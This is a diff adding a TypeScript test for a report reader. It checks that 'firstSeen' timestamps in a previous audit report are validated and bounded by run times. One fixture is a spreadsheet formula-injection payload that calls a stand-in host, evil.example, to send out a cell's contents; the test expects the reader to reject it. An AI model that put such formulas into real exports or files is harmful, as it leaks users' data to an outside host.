@@ -183,3 +183,45 @@ it("says the report directory could not be listed, rather than take the run for 
   const gone = await Effect.runPromise(readPreviousReport(join(directory, "gone")))
   expect(gone).toMatchObject({ _tag: "NotFound", reason: expect.stringContaining("no previous report") })
 })
+
+it("takes a firstSeen only as an RFC 3339 UTC timestamp no later than the report's run, nor this run's start", async () => {
+  const reported = (id: string, firstSeen: unknown) => ({ ...finding(0), id, firstSeen })
+  const findings = [
+    reported("utc", "2025-05-01T00:00:00Z"),
+    // Later than the run's start, not its finish: written while it ran.
+    reported("during-the-run", "2025-06-01T00:30:00.000Z"),
+    reported("garbage", "garbage"),
+    reported("ahead", "2099-01-01T00:00:00Z"),
+    reported("after-the-run", "2025-06-01T02:00:00.000Z"),
+    reported("formula", '=HYPERLINK("http://evil.example/?x="&B2,"click")'),
+    reported("offset", "2025-05-01T02:00:00+02:00"),
+    reported("number", 1_700_000_000_000),
+    // Reports before first-seen tracking: that run's start.
+    { ...finding(0), id: "none", firstSeen: undefined }
+  ]
+  const text = `{\n"run": {"startedAt": "2025-06-01T00:00:00.000Z", "finishedAt": "2025-06-01T01:00:00.000Z"},\n"findings": [\n${findings.map((item) => JSON.stringify(item)).join(",\n")}\n]\n}\n`
+  writeFileSync(join(directory, "user-audit-20250601T000000Z.json"), text)
+  const lookup = await Effect.runPromise(readPreviousReport(directory))
+  if (lookup._tag !== "Found") throw new Error(lookup.reason)
+  expect(Object.fromEntries([...lookup.report.findings].map(([id, item]) => [id, item.firstSeen]))).toEqual({
+    utc: "2025-05-01T00:00:00.000Z",
+    "during-the-run": "2025-06-01T00:30:00.000Z",
+    garbage: null,
+    ahead: null,
+    "after-the-run": null,
+    formula: null,
+    offset: null,
+    number: null,
+    none: "2025-06-01T00:00:00.000Z"
+  })
+  expect(lookup.report.rejectedFirstSeen).toEqual({
+    count: 6,
+    example: 'garbage: "garbage" is not an RFC 3339 UTC timestamp'
+  })
+  // Whatever that report says of its own run, nothing was first seen after this run started (beyond clock skew).
+  const now = Date.parse("2025-06-01T00:10:00.000Z")
+  const bounded = await Effect.runPromise(readPreviousReport(directory, undefined, now + 6 * 60_000))
+  if (bounded._tag !== "Found") throw new Error(bounded.reason)
+  expect(bounded.report.findings.get("during-the-run")?.firstSeen).toBeNull()
+  expect(bounded.report.findings.get("utc")?.firstSeen).toBe("2025-05-01T00:00:00.000Z")
+})
